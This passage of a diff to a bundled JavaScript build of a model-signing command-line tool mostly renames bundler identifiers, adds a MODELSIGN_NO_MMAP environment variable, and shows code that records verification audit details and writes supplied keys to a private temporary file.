+    return policyTrust2(policy.trust, (f2) => path12.relative(path12.dirname(policy.file), f2));
   },
   async stages(flags) {
     const policy = loaded.get(flags);
@@ -62357,6 +62526,7 @@ var NON_FLAG_VARIABLES = /* @__PURE__ */ new Set([
   "MODELSIGN_CACHE_DIR",
   // hashing engine and progress tuning (docs/performance.md)
   "MODELSIGN_NO_NATIVE_BLAKE",
+  "MODELSIGN_NO_MMAP",
   "MODELSIGN_PREWARM",
   "MODELSIGN_PROGRESS",
   "MODELSIGN_PROGRESS_INTERVAL_MS"
@@ -62442,7 +62612,7 @@ newline-separated) and the model as MODELSIGN_MODEL; the command line wins.
 init_esm();
 init_errors();
 init_io();
-import { existsSync as existsSync2, writeFileSync } from "node:fs";
+import { existsSync as existsSync3, writeFileSync } from "node:fs";
 
 // src/cli/report.ts
 function verifyJson(r) {
@@ -62493,7 +62663,7 @@ function jsonSink() {
 function terminationLogPath(flags) {
   const p2 = flags.terminationLog;
   if (p2) return p2;
-  return existsSync2(DEFAULT_TERMINATION_LOG) ? DEFAULT_TERMINATION_LOG : void 0;
+  return existsSync3(DEFAULT_TERMINATION_LOG) ? DEFAULT_TERMINATION_LOG : void 0;
 }
 function clip(text, max) {
   const b2 = Buffer.from(text, "utf8");
@@ -62559,28 +62729,28 @@ var podPlugin = {
 
 // src/cli/verify-audit.ts
 init_errors();
-import path14 from "node:path";
+import path16 from "node:path";
 function str2(v2) {
   return typeof v2 === "string" ? v2 : null;
 }
 function base(model, flags) {
   return {
     time: (/* @__PURE__ */ new Date()).toISOString(),
-    model: path14.resolve(model),
-    signature: str2(flags.signature) ? path14.resolve(flags.signature) : null,
+    model: path16.resolve(model),
+    signature: str2(flags.signature) ? path16.resolve(flags.signature) : null,
     rootDigest: null,
     name: null,
     version: null,
     signer: null,
     // Flags other plugins own; recorded when they are present.
-    policy: str2(flags.policy) ? path14.resolve(flags.policy) : null,
+    policy: str2(flags.policy) ? path16.resolve(flags.policy) : null,
     purpose: str2(flags.purpose)
   };
 }
 function decisionFromResult(flags, r) {
   return {
     ...base(r.model, flags),
-    signature: path14.resolve(r.signature),
+    signature: path16.resolve(r.signature),
     rootDigest: r.rootDigest ? `sha256:${r.rootDigest}` : null,
     name: r.metadata?.name ?? r.subjectName ?? null,
     version: r.metadata?.version ?? null,
@@ -62779,9 +62949,9 @@ function keyPaths(r, cleanup, secret) {
   const raw = r.input("key");
   if (!raw.includes("-----BEGIN")) return r.listInput("key");
   if (secret) r.mask(raw);
-  const dir = mkdtempSync(path20.join(process.env.RUNNER_TEMP || os6.tmpdir(), "modelsign-key-"));
+  const dir = mkdtempSync(path22.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
   cleanup.dirs.push(dir);
-  const file = path20.join(dir, secret ? "signing.key" : "trusted.pub");
+  const file = path22.join(dir, secret ? "signing.key" : "trusted.pub");
   writeFileSync2(file, raw.endsWith("\n") ? raw : `${raw}
 `, { mode: 384 });
   return [file];
